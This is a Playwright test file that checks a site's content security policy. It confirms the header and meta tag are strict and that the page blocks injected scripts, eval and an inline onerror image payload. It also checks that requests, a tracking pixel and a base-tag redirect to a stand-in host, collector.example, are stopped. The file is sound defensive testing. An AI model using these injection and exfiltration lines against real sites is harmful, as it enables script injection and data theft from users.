import { resolveMail, SAME_ORIGIN } from '../../config/mail.ts';
import { expect, open, paths, site, test } from './site.ts';

/** The external origins that the owner's settings allow. */
const { origin: mailOrigin } = resolveMail(process.env);
const externalOrigins = [
  ...(mailOrigin === SAME_ORIGIN ? [] : [new URL(mailOrigin).origin]),
  ...(site.analytics === null ? [] : [new URL(site.analytics.scriptUrl).origin, ...site.analytics.sendsTo]),
];

test('every page has a content security policy header, and a meta tag for hosts without headers', async ({
  request,
}) => {
  for (const path of paths) {
    const response = await request.get(path);
    const header = response.headers()['content-security-policy'] ?? '';
    expect(header, path).toContain("default-src 'none'");
    expect(header, path).toContain("frame-ancestors 'none'");
    expect(header, path).toContain("require-trusted-types-for 'script'");
    expect(header, path).not.toContain('unsafe-');
    for (const [origin] of header.matchAll(/https?:\/\/[^\s;]+/g)) {
      expect(externalOrigins, path).toContain(origin);
    }
    const inPage = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(await response.text());
    const text = inPage?.[1]?.replaceAll('&apos;', "'").replaceAll('&#39;', "'");
    const expected = mailOrigin === SAME_ORIGIN ? undefined : header.replace("frame-ancestors 'none'; ", '');
    expect(text, path).toBe(expected);
  }
});

test('the policy blocks injected scripts, images and requests', async ({ page, allowConsole }) => {
  allowConsole(/Content Security Policy|TrustedHTML|TrustedScript|Trusted Type/);
  await open(page, '/');
  const title = await page.title();
  const outcome = await page.evaluate(async () => {
    const violated: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      violated.push(event.effectiveDirective);
    });
    const script = document.createElement('script');
    const isRefused = (act: () => void) => {
      try {
        act();
        return false;
      } catch {
        return true;
      }
    };
    const refusedText = isRefused(() => {
      script.text = 'document.title = "injected"';
    });
    const refusedHtml = isRefused(() => {
      document.body.innerHTML += '<img src="x" onerror="document.title = \'injected\'">';
    });
    // Runs in a timer, because code that Playwright evaluates bypasses the page's policy.
    const refusedEval = await new Promise<boolean>((resolve) => {
      // biome-ignore lint/security/noGlobalEval: the test expects eval to be blocked.
      setTimeout(() => resolve(isRefused(() => eval('document.title = "injected"'))));
    });
    const sent = await fetch('https://collector.example/steal').then(
      () => true,
      () => false,
    );
    const picture = new Image();
    picture.src = 'https://collector.example/pixel.gif';
    await new Promise((failed) => picture.addEventListener('error', failed));
    const base = document.createElement('base');
    base.href = 'https://collector.example/';
    document.head.append(base);
    return { refusedText, refusedHtml, refusedEval, sent, violated, base: document.baseURI };
  });
  expect(outcome).toMatchObject({
    refusedText: true,
    refusedHtml: true,
    refusedEval: true,
    sent: false,
  });
  expect(outcome.violated).toEqual(expect.arrayContaining(['connect-src', 'img-src']));
  expect(outcome.base).not.toContain('collector.example');
  await expect(page).toHaveTitle(title);
});
